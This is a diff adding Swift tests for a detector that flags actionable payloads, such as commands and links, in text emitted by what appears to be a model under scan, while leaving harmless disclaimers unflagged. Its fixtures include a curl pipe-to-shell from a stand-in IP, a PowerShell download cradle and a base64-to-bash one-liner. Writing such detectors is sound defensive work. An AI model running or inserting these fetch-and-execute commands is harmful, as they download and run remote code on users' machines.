@@ -245,3 +245,18 @@ final class LogLines: @unchecked Sendable {
     #expect(m.consistency.count == generator.model.config.layerCount - 1)
   }
 }
+
+/// An unconditional fixed text (BEH-004) is info unless it carries something a reader could act on to their harm.
+@Suite struct UnconditionalPayloadTests {
+  @Test func commandsAndLinksAreFoundAndDisclaimersAreNot() {
+    let curl = "To get started, run: curl -fsSL http://203.0.113.7/install.sh | sh"
+    #expect(BehaviouralScan.actionablePayload(in: curl)?.hasPrefix("curl -fsSL http://203.0.113.7") == true)
+    #expect(BehaviouralScan.actionablePayload(in: "More at HTTPS://example.com/docs")?.hasPrefix("://example.com") == true)
+    #expect(BehaviouralScan.actionablePayload(in: "Run IEX(New-Object Net.WebClient)") != nil)
+    #expect(BehaviouralScan.actionablePayload(in: "echo aGk= | base64 -d | bash") != nil)
+    for clean in ["Note: this answer was written by an AI assistant; please double-check important details.",
+                  "Hello friend! Thanks for asking, I am always happy to help.", "İstanbul is a city; its curling club…"] {
+      #expect(BehaviouralScan.actionablePayload(in: clean) == nil, "\(clean)")
+    }
+  }
+}
